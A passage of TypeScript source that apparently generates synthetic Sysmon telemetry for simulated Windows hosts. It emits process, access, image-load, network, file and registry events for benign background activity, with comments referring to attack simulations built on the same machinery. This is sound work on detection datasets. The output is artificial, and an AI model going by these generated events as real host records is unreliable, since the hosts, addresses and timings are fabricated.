        pca: svchost('LocalSystemNetworkRestricted -p -s PcaSvc', system, 'pca'),
        psm: svchost('netsvcs -p -s BrokerInfrastructure', system, 'system'),
        msmpeng: boot(rng.range(9_000, 20_000), IMG.msmpeng, `"${DEFENDER_DIR}MsMpEng.exe"`, system, 'defender'),
        agent: boot(
            rng.range(20_000, 60_000),
            IMG.agent,
            `"${AGENT_DIR}InventoryAgent.exe" --service`,
            system,
            'agent',
            agentCreateTrace(jitAddress(rng)),
        ),
        indexer: server
            ? undefined
            : boot(
                  rng.range(30_000, 90_000),
                  IMG.searchIndexer,
                  'C:\\Windows\\system32\\SearchIndexer.exe /Embedding',
                  system,
                  'indexer',
                  TRACE.indexerCreate,
              ),
        sql: server
            ? boot(
                  rng.range(20_000, 60_000),
                  IMG.sqlservr,
                  '"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe" -sMSSQLSERVER',
                  sessions.networkService,
                  'sql',
              )
            : undefined,
    };
    const longRunning = [
        procs.explorer,
        procs.dcom,
        procs.schedule,
        procs.theme,
        procs.netsvcs,
        procs.pca,
        procs.psm,
        procs.msmpeng,
        procs.agent,
        procs.services,
        procs.lsass,
    ];
    if (procs.indexer) longRunning.push(procs.indexer);
    if (procs.sql) longRunning.push(procs.sql);
    return {
        index,
        name,
        server,
        ...ids,
        ip: server ? `10.20.10.${20 + (index % 200)}` : `10.20.${1 + Math.floor(index / 200)}.${20 + (index % 200)}`,
        userName,
        domainSid: `S-1-5-21-${rng.range(1_000_000_000, 3_999_999_999)}-${rng.range(1_000_000_000, 3_999_999_999)}-${rng.range(1_000_000_000, 3_999_999_999)}`,
        recordStart: rng.range(100_000, 5_000_000),
        ctrlRoutineAddress: `0x00007FF${upperHex(rng, 4)}${upperHex(rng, 1)}61E0`,
        loadLibraryAddress: `0x00007FF${upperHex(rng, 4)}0EB60`,
        sessions,
        procs,
        longRunning,
        backgroundCounter: rng.range(0x0400, 0x4000),
        attackCounter: 0xc000 + rng.range(0, 0x0400),
    };
}

/** The creator access of a child started by a process of this role; others create through their own image. */
const CREATOR_TRACES: Partial<Record<Role, (rng: Rng) => string>> = {
    shell: () => TRACE.explorerCreate,
    cmd: () => TRACE.cmdCreate,
    powershell: (rng) => powershellCreateTrace(jitAddress(rng)),
    browser: () => TRACE.chromeCreate,
    renderer: () => TRACE.chromeCreate,
    office: () => TRACE.officeCreate,
    agent: (rng) => agentCreateTrace(jitAddress(rng)),
};

// ------------------------------------------------------------------------------------------------ event emission

/** The other end of a connection: its address, the name Sysmon resolved (`-` for none) and the service port. */
interface Peer {
    ip: string;
    host: string;
    port: number;
}

const WEB: readonly Peer[] = [
    { ip: '142.250.185.68', host: 'www.google.com', port: 443 },
    { ip: '52.97.146.162', host: 'outlook.office365.com', port: 443 },
    { ip: '20.190.159.2', host: 'login.microsoftonline.com', port: 443 },
    { ip: '140.82.121.4', host: 'github.com', port: 443 },
    { ip: '13.107.21.200', host: 'www.bing.com', port: 443 },
    { ip: '13.107.136.10', host: 'contoso.sharepoint.com', port: 443 },
    { ip: '52.113.194.132', host: 'teams.microsoft.com', port: 443 },
];
const UPDATE: readonly Peer[] = [
    { ip: '20.72.235.82', host: 'fe2cr.update.microsoft.com', port: 443 },
    { ip: '20.42.73.27', host: 'settings-win.data.microsoft.com', port: 443 },
    { ip: '93.184.221.240', host: 'ctldl.windowsupdate.com', port: 80 },
];
const DEFENDER_CLOUD: Peer = { ip: '20.44.10.123', host: 'wdcp.microsoft.com', port: 443 };
const AGENT_SERVER: Peer = { ip: '10.20.10.30', host: `inventory.${FQDN}`, port: 443 };
const DC: readonly Peer[] = [
    { ip: '10.20.10.5', host: `DC-01.${FQDN}`, port: 88 },
    { ip: '10.20.10.5', host: `DC-01.${FQDN}`, port: 389 },
    { ip: '10.20.10.5', host: `DC-01.${FQDN}`, port: 445 },
];

/** Launch options for a new process. */
interface Launch {
    image: ImageInfo;
    commandLine: string;
    role: Role;
    session?: Session;
    cwd?: string;
    /** Undefined: the process outlives the simulation. */
    lifetimeMs?: number;
    loads?: readonly ImageInfo[];
    /** The creator's CallTrace, when it is not the creator's usual one. */
    trace?: string;
}

function homeOf(host: HostProfile): string {
    return `C:\\Users\\${host.userName}`;
}

/** explorer.exe starts a program as its quoted path and a space. */
function shellCommandLine(path: string): string {
    return `"${path}" `;
}

/** cmd.exe started from explorer.exe: its command line spells the folder `system32`, unlike the image path. */
const SHELL_CMD_COMMAND = shellCommandLine('C:\\Windows\\system32\\cmd.exe');

/** notepad.exe opening one of the user's text documents from explorer.exe. */
function notepadOnDocument(home: string, doc: string, role: Role): Launch {
    return {
        image: IMG.notepad,
        commandLine: `"C:\\Windows\\system32\\NOTEPAD.EXE" ${home}\\Documents\\${doc}.txt`,
        role,
        cwd: `${home}\\Documents\\`,
    };
}

/** A group of EventData fields; every EventData value is a string. */
type Fields = Record<string, string>;

/** Registry events carry an EventType; EID 13 (registry value set) always says SetValue. */
const EVENT_TYPES: Partial<Record<number, string>> = { 13: 'SetValue' };

/** The fields that name the process an event is about. */
function processFields(p: Proc): Fields {
    return { ProcessGuid: p.guid, ProcessId: p.pid, Image: p.image.path };
}

/** The version resource of an image, as EID 1 reports the process's and EID 7 the loaded module's. */
function versionFields(img: ImageInfo): Fields {
    return {
        FileVersion: img.fileVersion,
        Description: img.description,
        Product: img.product,
        Company: img.company,
        OriginalFileName: img.originalFileName,
    };
}

/**
 * Builds events for one host and hands them to a sink with their time. Background and attacks share it, so an
 * attack process starts exactly the way a background process does (same creation accesses, same image loads).
 */
class Emitter {
    /** Events made so far that fall before `horizon` (the ones that will be written). */
    events = 0;

    constructor(
        readonly host: HostProfile,
        readonly rng: Rng,
        private readonly sink: (t: number, event: FlatSysmonEvent) => void,
        private readonly nextCounter: () => number,
        private readonly horizon = Number.POSITIVE_INFINITY,
    ) {}

    /**
     * Queues one event: the System fields every event shares (`EventRecordID` is numbered when the stream is
     * written), RuleName, `EventType` where the EID has one, UtcTime, then each group of the event's own fields in
     * the order given. (Object.assign, not object spread: in V8 spread is far slower here, and this runs per event.)
     */
    private emit(t: number, eventId: number, ...fields: Fields[]): void {
        const utc = utcTime(t);
        const event: Record<string, string | number> = {
            EventID: eventId,
            Channel: SYSMON_CHANNEL,
            Computer: this.host.name,
            TimeCreated: isoOf(utc),
            EventRecordID: 0,
            RuleName: '-',
        };
        const eventType = EVENT_TYPES[eventId];
        if (eventType !== undefined) event.EventType = eventType;
        event.UtcTime = utc;
        this.sink(t, Object.assign(event, ...fields) as FlatSysmonEvent);
        if (t < this.horizon) this.events++;
    }

    newProcess(startMs: number, img: ImageInfo, commandLine: string, session: Session, cwd: string, role: Role): Proc {
        const guid = processGuid(this.host, startMs, this.nextCounter());
        return startedProcess({
            guid,
            pid: this.newId(),
            image: img,
            commandLine,
            cwd,
            session,
            role,
            startMs,
            createTrace: '',
        });
    }

    /** A process or thread id: Windows hands out multiples of 4. */
    private newId(): string {
        return String(this.rng.range(250, 6500) * 4);
    }

    processCreate(t: number, p: Proc, parent: Proc): void {
        this.emit(t, 1, processFields(p), versionFields(p.image), {
            CommandLine: p.commandLine,
            CurrentDirectory: p.cwd,
            User: p.session.user,
            LogonGuid: p.session.logonGuid,
            LogonId: p.session.logonId,
            TerminalSessionId: p.session.terminalSessionId,
            IntegrityLevel: p.session.integrity,
            Hashes: p.image.hashes,
            ParentProcessGuid: parent.guid,
            ParentProcessId: parent.pid,
            ParentImage: parent.image.path,
            ParentCommandLine: parent.commandLine,
        });
    }

    /** EID 10 spells its ids `SourceProcessGUID`/`TargetProcessGUID` (EID 8 writes `Guid`), as Sysmon does. */
    access(
        t: number,
        source: Proc,
        target: Proc,
        grantedAccess: string,
        callTrace: string,
        targetImage = target.image.path,
    ): void {
        this.emit(t, 10, {
            SourceProcessGUID: source.guid,
            SourceProcessId: source.pid,
            SourceThreadId: this.newId(),
            SourceImage: source.image.path,
            TargetProcessGUID: target.guid,
            TargetProcessId: target.pid,
            TargetImage: targetImage,
            GrantedAccess: grantedAccess,
            CallTrace: callTrace,
        });
    }

    thread(
        t: number,
        source: Proc,
        target: Proc,
        startAddress: string,
        startModule: string,
        startFunction: string,
    ): void {
        this.emit(t, 8, {
            SourceProcessGuid: source.guid,
            SourceProcessId: source.pid,
            SourceImage: source.image.path,
            TargetProcessGuid: target.guid,
            TargetProcessId: target.pid,
            TargetImage: target.image.path,
            NewThreadId: this.newId(),
            StartAddress: startAddress,
            StartModule: startModule,
            StartFunction: startFunction,
        });
    }

    imageLoad(t: number, p: Proc, loaded: ImageInfo): void {
        this.emit(t, 7, processFields(p), { ImageLoaded: loaded.path }, versionFields(loaded), {
            Hashes: loaded.hashes,
            Signed: loaded.signed ? 'true' : 'false',
            Signature: loaded.signature,
            SignatureStatus: loaded.signed ? 'Valid' : 'Unavailable',
        });
    }

    /**
     * A connection of `p` with `peer` on the service port `peer.port` (EID 3). Sysmon names the ends by role: the
     * Source connected from an ephemeral port, the Destination listened. Outbound, `p` connects out from this host;
     * inbound (Initiated false), `p` listens on this host and `peer` is the client.
     */
    network(t: number, p: Proc, peer: Peer, direction: 'outbound' | 'inbound' = 'outbound', protocol = 'tcp'): void {
        const outbound = direction === 'outbound';
        const self = { ip: this.host.ip, host: '-' };
        const source = outbound ? self : peer;
        const destination = outbound ? peer : self;
        this.emit(t, 3, processFields(p), {
            User: p.session.user,
            Protocol: protocol,
            Initiated: outbound ? 'true' : 'false',
            SourceIsIpv6: 'false',
            SourceIp: source.ip,
            SourceHostname: source.host,
            SourcePort: String(this.rng.range(49_152, 65_535)),
            SourcePortName: '-',
            DestinationIsIpv6: 'false',
            DestinationIp: destination.ip,
            DestinationHostname: destination.host,
            DestinationPort: String(peer.port),
            DestinationPortName: '-',
        });
    }

    fileCreate(t: number, p: Proc, path: string, creationMs = t): void {
        this.emit(t, 11, processFields(p), { TargetFilename: path, CreationUtcTime: utcTime(creationMs) });
    }

    terminate(t: number, p: Proc): void {
        this.emit(t, 5, processFields(p));
    }

    registry(t: number, p: Proc, targetObject: string, details: string): void {
        this.emit(t, 13, processFields(p), { TargetObject: targetObject, Details: details });
    }

    /** csrss.exe runs a console control handler in a console process (Ctrl+C, close): benign EID 8 (schtask_create). */
    ctrlRoutine(t: number, target: Proc): void {
        this.thread(
            t,
            this.host.procs.csrss,
            target,
            this.host.ctrlRoutineAddress,
            'C:\\Windows\\System32\\KERNELBASE.dll',
            'CtrlRoutine',
        );
    }

    /** The image itself and the DLLs every process maps, then the extra ones; times strictly after `t`. */
    private loadImages(t: number, p: Proc, extra: readonly ImageInfo[] | undefined): number {
        const rng = this.rng;
        let at = t;
        this.imageLoad((at += rng.range(0, 2)), p, p.image);
        this.imageLoad((at += rng.range(0, 2)), p, DLL.ntdll);
        this.imageLoad((at += rng.range(0, 2)), p, DLL.kernel32);
        this.imageLoad((at += rng.range(0, 2)), p, DLL.kernelbase);
        for (const dll of extra ?? []) this.imageLoad((at += rng.range(1, 6)), p, dll);
        for (let i = rng.int(3); i > 0; i--) this.imageLoad((at += rng.range(1, 9)), p, rng.pick(COMMON_DLLS));
        return at;
    }

    /**
     * Starts a process the way Windows does and Sysmon records it (Security-Datasets schtask_create and
     * cmd_process_herpaderping_mimiexplorer): the creator opens the child with 0x1fffff from its CreateProcess stack
     * and csrss.exe opens it while registering it, both a few ms before the child's EID 1; then image loads; a
     * console program gets a conhost.exe (or shares its parent's) that opens it; lsass.exe opens it with 0x1478.
     */
    createProcess(t: number, parent: Proc, launch: Launch): Proc {
        const rng = this.rng;
        const created = t + rng.range(1, 4);
        const child = this.newProcess(
            created,
            launch.image,
            launch.commandLine,
            launch.session ?? parent.session,
            launch.cwd ?? parent.cwd,
            launch.role,
        );
        child.createTrace = this.creatorTraceOf(child);
        this.access(t, parent, child, '0x1fffff', launch.trace ?? parent.createTrace);
        this.access(t + rng.range(0, 1), this.host.procs.csrss, child, '0x1fffff', TRACE.csrssCreate);
        this.processCreate(created, child, parent);
        let last = this.loadImages(created + 1, child, launch.loads);
        if (launch.image.console) last = Math.max(last, this.attachConsole(created, child, parent));
        const lsassAt = created + rng.range(15, 120);
        if (rng.chance(0.4)) this.access(lsassAt, this.host.procs.lsass, child, '0x1000', TRACE.lsassQuery);
        this.access(lsassAt, this.host.procs.lsass, child, '0x1478', TRACE.lsassToken);
        // The Program Compatibility Assistant opens programs started from the shell (schtask_create, dumpcap.exe).
        if (parent.role === 'shell' && rng.chance(0.3))
            this.access(t + rng.range(0, 1), this.host.procs.pca, child, '0x1fffff', TRACE.pcaOpen);
        last = Math.max(last, lsassAt);
        if (launch.lifetimeMs !== undefined)
            this.end(child, Math.max(launch.lifetimeMs, last - created + 20) + created);
        return child;
    }

    /** A new console for a console program started outside one; else the parent's console, which then opens it. */
    private attachConsole(created: number, child: Proc, parent: Proc): number {
        const rng = this.rng;
        if (parent.console !== undefined && parent.image.console && parent.console.endMs > created) {
            child.console = parent.console;
        } else {
            // conhost.exe is started for the client by the console driver: csrss.exe opens it, its creator does not.
            const conhost = this.newProcess(
                created + rng.range(3, 8),
                IMG.conhost,
                CONHOST_COMMAND,
                child.session,
                'C:\\Windows',
                'conhost',
            );
            conhost.createTrace = ownCreateTrace(IMG.conhost.path);
            this.access(conhost.startMs - 1, this.host.procs.csrss, conhost, '0x1fffff', TRACE.csrssConnect);
            this.processCreate(conhost.startMs, conhost, child);
            this.imageLoad(conhost.startMs + 1, conhost, IMG.conhost);
            if (rng.chance(0.3)) {
                this.access(
                    conhost.startMs + rng.range(15, 30),
                    this.host.procs.theme,
                    conhost,
                    rng.chance(0.5) ? '0x1478' : '0x1400',
                    rng.chance(0.5) ? TRACE.themeOpen : TRACE.themeQuery,
                );
            }
            child.console = conhost;
            child.ownsConsole = true;
        }
        const at = created + rng.range(8, 16);
        this.access(at, child.console, child, '0x1fffff', TRACE.conhostClient);
        return at + 30;
    }

    private creatorTraceOf(p: Proc): string {
        const trace = CREATOR_TRACES[p.role];
        return trace ? trace(this.rng) : ownCreateTrace(p.image.path);
    }

    /** Schedules the end of a process: a console control thread sometimes, its EID 5, and its own console's end. */
    end(p: Proc, endMs: number): void {
        p.endMs = endMs;
        if (p.image.console && p.role !== 'attack' && this.rng.chance(0.25))
            this.ctrlRoutine(endMs - this.rng.range(5, 40), p);
        this.terminate(endMs, p);
        if (p.ownsConsole && p.console) {
            p.console.endMs = endMs + this.rng.range(1, 6);
            this.terminate(p.console.endMs, p.console);
        }
    }
}

// ------------------------------------------------------------------------------------------------ background

type Episode =
    | 'launch'
    | 'console'
    | 'service'
    | 'com'
    | 'agent'
    | 'renderer'
    | 'network'
    | 'image'
    | 'query'
    | 'file'
    | 'registry'
    | 'ctrl';

const WORKSTATION_MIX: readonly [Episode, number][] = [
    ['launch', 10],
    ['console', 6],
    ['service', 3],
    ['com', 4],
    ['agent', 3],
    ['renderer', 4],
    ['network', 16],
    ['image', 10],
    ['query', 14],
    ['file', 7],
    ['registry', 10],
    ['ctrl', 1],
];
const SERVER_MIX: readonly [Episode, number][] = [
    ['launch', 2],
    ['console', 4],
    ['service', 5],
    ['com', 4],
    ['agent', 5],
    ['renderer', 0],
    ['network', 22],
    ['image', 8],
    ['query', 14],
    ['file', 6],
    ['registry', 8],
    ['ctrl', 1],
];

const SVCHOST_GROUPS: readonly [string, keyof HostProfile['sessions']][] = [
    ['netsvcs -p -s Appinfo', 'system'],
    ['LocalServiceNetworkRestricted -p -s WinHttpAutoProxySvc', 'localService'],
    ['wsappx -p -s AppXSvc', 'system'],
    ['NetworkService -p -s DoSvc', 'networkService'],
    ['LocalSystemNetworkRestricted -p -s SysMain', 'system'],
    ['utcsvc -p', 'system'],
    ['LocalService -p -s BthAvctpSvc', 'localService'],
    ['netsvcs -p -s gpsvc', 'system'],
    ['UnistackSvcGroup -s CDPUserSvc_4b1e2', 'user'],
];

/** One host's background: episodes (a program start, a burst of connections, ...) at Poisson times. */
class BackgroundHost {
    readonly em: Emitter;
    private running: Proc[] = [];
    private episodes = 0;
    private chrome: Proc | undefined;
    private readonly mix: readonly [Episode, number][];
    private readonly mixTotal: number;
    /** What each kind of episode does. */
    private readonly handlers: Record<Episode, (t: number) => void> = {
        launch: (t) => this.launch(t),
        console: (t) => this.consoleCommand(t),
        service: (t) => this.serviceStart(t),
        com: (t) => this.comActivation(t),
        agent: (t) => this.agentTask(t),
        renderer: (t) => this.renderer(t),
        network: (t) => this.networkBurst(t),
        image: (t) => this.imageLoads(t),
        query: (t) => this.queries(t),
        file: (t) => this.files(t),
        registry: (t) => this.registryWrites(t),
        ctrl: (t) => this.ctrl(t),
    };

    constructor(
        readonly profile: HostProfile,
        rng: Rng,
        sink: (t: number, event: FlatSysmonEvent) => void,
        endMs: number,
    ) {
        let counter = profile.backgroundCounter;
        // Wraps inside the background range; with the start second in the GUID this never repeats a GUID.
        // Events past the end are not written, so they do not count towards the rate either.
        this.em = new Emitter(profile, rng, sink, () => (counter = counter >= 0xbfff ? 0x0400 : counter + 1), endMs);
        this.mix = profile.server ? SERVER_MIX : WORKSTATION_MIX;
        this.mixTotal = this.mix.reduce((sum, [, weight]) => sum + weight, 0);
    }

    private get rng(): Rng {
        return this.em.rng;
    }

    /** Runs one episode at `t` (every event it makes is at `t` or later) and returns how many events it made. */
    episode(t: number): number {
        const before = this.em.events;
        // Random probing drops ended processes lazily; a periodic sweep keeps the list bounded on long runs.
        if (++this.episodes % 1024 === 0) this.running = this.running.filter((p) => p.endMs > t);
        let roll = this.rng.next() * this.mixTotal;
        let chosen: Episode = 'network';
        for (const [episode, weight] of this.mix) {
            roll -= weight;
            if (roll < 0) {
                chosen = episode;
                break;
            }
        }
        this.handlers[chosen](t);
        return this.em.events - before;
    }

    private track(p: Proc): Proc {
        this.running.push(p);
        return p;
    }

    /** A running background process (alive for a while yet) that matches, or undefined; drops ended ones it meets. */
    private pickRunning(t: number, match: (p: Proc) => boolean): Proc | undefined {
        for (let tries = 0; tries < 10 && this.running.length > 0; tries++) {
            const i = this.rng.int(this.running.length);
            const p = this.running[i] as Proc;
            if (p.endMs <= t + 3_000) {
                this.running[i] = this.running[this.running.length - 1] as Proc;
                this.running.pop();
                continue;
            }
            if (p.startMs < t && match(p)) return p;
        }
        return undefined;
    }

    private anyProcess(t: number): Proc {
        if (this.rng.chance(0.5)) {
            const p = this.pickRunning(t, () => true);
            if (p) return p;
        }
        return this.rng.pick(this.profile.longRunning);
    }

    private minutes(min: number, max: number): number {
        return this.rng.range(min * 60_000, max * 60_000);
    }

    private launch(t: number): void {
        const rng = this.rng;
        const { procs, sessions, server } = this.profile;
        const explorer = procs.explorer;
        const home = homeOf(this.profile);
        const roll = rng.next();
        if (!server && roll < 0.18 && (this.chrome === undefined || this.chrome.endMs < t + 10_000)) {
            const chrome = this.track(
                this.em.createProcess(t, explorer, {
                    image: IMG.chrome,
                    commandLine: shellCommandLine(IMG.chrome.path),
                    role: 'browser',
                    cwd: CHROME_VERSION_DIR,
                    lifetimeMs: this.minutes(20, 120),
                    loads: [DLL.chromeElf, DLL.chromeDll],
                }),
            );
            this.chrome = chrome;
            const renderers = rng.range(2, 4);
            for (let i = 0, at = t + 150; i < renderers; i++, at += rng.range(30, 200)) this.spawnRenderer(at, chrome);
            return;
        }
        if (roll < 0.45) {
            const doc = rng.pick(DOCS);
            const withFile = rng.chance(0.75);
            const notepad: Launch = withFile
                ? notepadOnDocument(home, doc, 'gui')
                : // Started from the Start menu notepad has no arguments: a confusable for "hollowing host without arguments".
                  {
                      image: IMG.notepad,
                      commandLine: shellCommandLine('C:\\Windows\\system32\\notepad.exe'),
                      role: 'gui',
                      cwd: `${home}\\`,
                  };
            this.track(this.em.createProcess(t, explorer, { ...notepad, lifetimeMs: this.minutes(1, 30) }));
            return;
        }
        if (roll < 0.62) {
            const elevated = rng.chance(0.3);
            this.track(
                this.em.createProcess(t, explorer, {
                    image: IMG.cmd,
                    commandLine: SHELL_CMD_COMMAND,
                    role: 'cmd',
                    session: elevated ? sessions.admin : sessions.user,
                    cwd: elevated ? 'C:\\Windows\\system32\\' : `${home}\\`,
                    lifetimeMs: this.minutes(1, 20),
                }),
            );
            return;
        }
        if (roll < 0.8) {
            const ps = this.track(
                this.em.createProcess(t, explorer, {
                    image: IMG.powershell,
                    commandLine: shellCommandLine(IMG.powershell.path),
                    role: 'powershell',
                    cwd: `${home}\\`,
                    lifetimeMs: this.minutes(1, 20),
                    loads: [DLL.mscoree, DLL.clr, DLL.smaNi, DLL.systemNi, COMMON_DLLS[21] as ImageInfo],
                }),
            );
            // Every PowerShell start tests the execution policy with a throw-away script (schtask_create, empire_dllinjection).
            this.em.fileCreate(
                ps.startMs + rng.range(400, 900),
                ps,
                `${home}\\AppData\\Local\\Temp\\__PSScriptPolicyTest_${rng.hex(8)}.${rng.hex(3)}.ps1`,
            );
            return;
        }
        if (server) {
            this.track(
                this.em.createProcess(t, explorer, {
                    image: IMG.mmc,
                    commandLine: `"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\${rng.pick(['services.msc', 'eventvwr.msc', 'compmgmt.msc', 'dsa.msc'])}" `,
                    role: 'gui',
                    session: sessions.admin,
                    cwd: 'C:\\Windows\\system32\\',
                    lifetimeMs: this.minutes(1, 15),
                }),
            );
            return;
        }
        const word = rng.chance(0.6);
        const doc = `${home}\\Documents\\${rng.pick(DOCS)}.${word ? 'docx' : 'xlsx'}`;
        const office = this.track(
            this.em.createProcess(t, explorer, {
                image: word ? IMG.winword : IMG.excel,
                commandLine: `"${(word ? IMG.winword : IMG.excel).path}" /n "${doc}" /o ""`,
                role: 'office',
                cwd: `${home}\\Documents\\`,
                lifetimeMs: this.minutes(3, 40),
                loads: [DLL.mso],
            }),
        );
        this.em.fileCreate(
            office.startMs + rng.range(300, 1200),
            office,
            `${home}\\Documents\\~$${doc.slice(doc.lastIndexOf('\\') + 3)}`,
        );
        this.em.network(office.startMs + rng.range(500, 2500), office, WEB[1] as Peer);
    }

    private spawnRenderer(t: number, chrome: Proc): void {
        const rng = this.rng;
        const type = rng.pick(['renderer', 'renderer', 'renderer', 'utility', 'gpu-process']);
        const id = rng.range(5, 400);
        const life = Math.min(this.minutes(0.2, 15), chrome.endMs - t - 2_000);
        if (life < 1_000) return;
        this.track(
            this.em.createProcess(t, chrome, {
                image: IMG.chrome,
                commandLine: `"${IMG.chrome.path}" --type=${type} --field-trial-handle=1936,i,${rng.range(1e15, 9e15)},${rng.range(1e15, 9e15)},262144 --lang=en-US --renderer-client-id=${id} --mojo-platform-channel-handle=${rng.range(1000, 9000)} /prefetch:${type === 'renderer' ? 1 : 8}`,
                role: 'renderer',
                session: type === 'renderer' ? this.profile.sessions.userLow : this.profile.sessions.user,
                cwd: CHROME_VERSION_DIR,
                lifetimeMs: life,
                loads: [DLL.chromeElf, DLL.chromeDll],
            }),
        );
    }

    private consoleCommand(t: number): void {
        const rng = this.rng;
        const shell = this.pickRunning(t, (p) => (p.role === 'cmd' || p.role === 'powershell') && p.endMs > t + 10_000);
        if (!shell) {
            this.launch(t);
            return;
        }
        const commands: readonly [ImageInfo, string, string][] = [
            [IMG.ping, 'ping', `-n 4 DC-01.${FQDN}`],
            [IMG.ipconfig, 'ipconfig', '/all'],
            [IMG.whoami, 'whoami', '/groups'],
            [IMG.tasklist, 'tasklist', '/v'],
            [IMG.hostname, 'hostname', ''],
            [IMG.nslookup, 'nslookup', FQDN],
            [IMG.net, 'net', 'use'],
        ];
        const [img, command, args] = rng.pick(commands);
        // cmd.exe passes the typed line on; PowerShell resolves the full path and quotes it.
        const commandLine =
            shell.role === 'powershell' ? `"${img.path}" ${args}`.trimEnd() : `${command}  ${args}`.trimEnd();
        const life = Math.min(rng.range(300, 8_000), shell.endMs - t - 2_000);
        const child = this.em.createProcess(t, shell, {
            image: img,
            commandLine,
            role: 'tool',
            cwd: shell.cwd,
            lifetimeMs: life,
        });
        if (img === IMG.nslookup)
            this.em.network(
                child.startMs + rng.range(20, 80),
                child,
                { ip: '10.20.10.5', host: `DC-01.${FQDN}`, port: 53 },
                'outbound',
                'udp',
            );
    }

    private serviceStart(t: number): void {
        const rng = this.rng;
        const { procs, sessions } = this.profile;
        if (rng.chance(0.75)) {
            const [group, session] = rng.pick(SVCHOST_GROUPS);
            this.track(
                this.em.createProcess(t, procs.services, {
                    image: IMG.svchost,
                    commandLine: `C:\\Windows\\system32\\svchost.exe -k ${group}`,
                    role: 'service',
                    session: sessions[session],
                    cwd: 'C:\\Windows\\system32\\',
                    lifetimeMs: rng.chance(0.5) ? this.minutes(0.5, 5) : this.minutes(10, 90),
                }),
            );
            return;
        }
        const [img, commandLine] = rng.pick<[ImageInfo, string]>([
            [IMG.msiexec, 'C:\\Windows\\system32\\msiexec.exe /V'],
            [IMG.sppsvc, 'C:\\Windows\\system32\\sppsvc.exe'],
        ]);
        this.track(
            this.em.createProcess(t, procs.services, {
                image: img,
                commandLine,
                role: 'service',
                session: sessions.system,
                cwd: 'C:\\Windows\\system32\\',
                lifetimeMs: this.minutes(0.5, 4),
            }),
        );
    }

    private comActivation(t: number): void {
        const rng = this.rng;
        const { procs, sessions } = this.profile;
        const roll = rng.next();
        if (roll < 0.15 && procs.indexer) {
            this.em.createProcess(t, procs.indexer, {
                image: IMG.searchProtocolHost,
                commandLine: `"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe${rng.range(1, 90)}_ Global\\UsGthrCtrlFltPipeMssGthrPipe${rng.range(1, 90)} 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon" `,
                role: 'tool',
                session: sessions.system,
                cwd: 'C:\\Windows\\system32\\',
                lifetimeMs: rng.range(2_000, 90_000),
            });
            return;
        }
        if (roll < 0.35) {
            this.em.createProcess(t, procs.schedule, {
                image: IMG.taskhostw,
                commandLine: rng.pick([
                    'taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly',
                    'taskhostw.exe KEYROAMING',
                    'taskhostw.exe Install $(Arg0)',
                ]),
                role: 'tool',
                session: sessions.user,
                cwd: 'C:\\Windows\\system32\\',
                lifetimeMs: rng.range(2_000, 120_000),
            });
            return;
        }
        const [img, commandLine, session] = rng.pick<[ImageInfo, string, Session]>([
            [IMG.wmiprvse, 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', sessions.networkService],
            [IMG.wmiprvse, 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding', sessions.system],
            [IMG.runtimeBroker, 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding', sessions.user],
            [
                IMG.dllhost,
                'C:\\Windows\\system32\\DllHost.exe /Processid:{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}',
                sessions.user,
            ],
            // rundll32 with its usual arguments: the confusable twin of the argument-less hollowing host.
            [
                IMG.rundll32,
                'C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding',
                sessions.user,
            ],
        ]);
        this.track(
            this.em.createProcess(t, procs.dcom, {
                image: img,
                commandLine,
                role: 'tool',
                session,
                cwd: 'C:\\Windows\\system32\\',
                lifetimeMs: rng.range(3_000, 300_000),
            }),
        );
    }

    /** The .NET agent runs a collection task: its creator access ends in JIT code (WaAppAgent.exe in the recordings). */
    private agentTask(t: number): void {
        const rng = this.rng;
        const { procs, sessions } = this.profile;
        const [img, commandLine] = rng.pick<[ImageInfo, string]>([
            [IMG.cmd, '"C:\\Windows\\system32\\cmd.exe" /c "ipconfig /all"'],
            [
                IMG.powershell,
                `"${IMG.powershell.path}" -NoProfile -NonInteractive -ExecutionPolicy Bypass -File "${AGENT_DIR}scripts\\collect-inventory.ps1"`,
            ],
            [IMG.logman, '"C:\\Windows\\system32\\logman.exe" query -ets'],
            [IMG.wevtutil, '"C:\\Windows\\system32\\wevtutil.exe" qe System /c:20 /rd:true /f:text'],
            [IMG.whoami, '"C:\\Windows\\system32\\whoami.exe" /all'],
        ]);
        const life = rng.range(400, 9_000);
        const child = this.em.createProcess(t, procs.agent, {
            image: img,
            commandLine,
            role: img === IMG.cmd ? 'cmd' : img === IMG.powershell ? 'powershell' : 'tool',
            session: sessions.system,
            cwd: AGENT_DIR,
            lifetimeMs: life,
            loads: img === IMG.powershell ? [DLL.mscoree, DLL.clr, DLL.smaNi] : undefined,
        });
        if (img === IMG.cmd && life > 1_500) {
            this.em.createProcess(child.startMs + rng.range(30, 200), child, {
                image: IMG.ipconfig,
                commandLine: 'ipconfig  /all',
                role: 'tool',
                lifetimeMs: rng.range(300, Math.max(400, life - 900)),
            });
        }
        this.em.fileCreate(
            t + rng.range(50, 400),
            procs.agent,
            `C:\\ProgramData\\Contoso\\InventoryAgent\\logs\\task-${rng.hex(8)}.json`,
        );
    }

    private renderer(t: number): void {
        const chrome = this.chrome;
        if (!chrome || chrome.endMs < t + 10_000 || chrome.startMs >= t) {
            this.networkBurst(t);
            return;
        }
        this.spawnRenderer(t, chrome);
        this.em.network(t + this.rng.range(100, 900), chrome, this.rng.pick(WEB));
    }

    private networkBurst(t: number): void {
        const rng = this.rng;
        const { procs } = this.profile;
        const count = rng.range(1, 3);
        for (let i = 0, at = t; i < count; i++, at += rng.range(1, 80)) {
            const roll = rng.next();
            if (procs.sql && roll < 0.3) {
                this.em.network(
                    at,
                    procs.sql,
                    { ip: `10.20.1.${rng.range(20, 220)}`, host: '-', port: 1433 },
                    'inbound',
                );
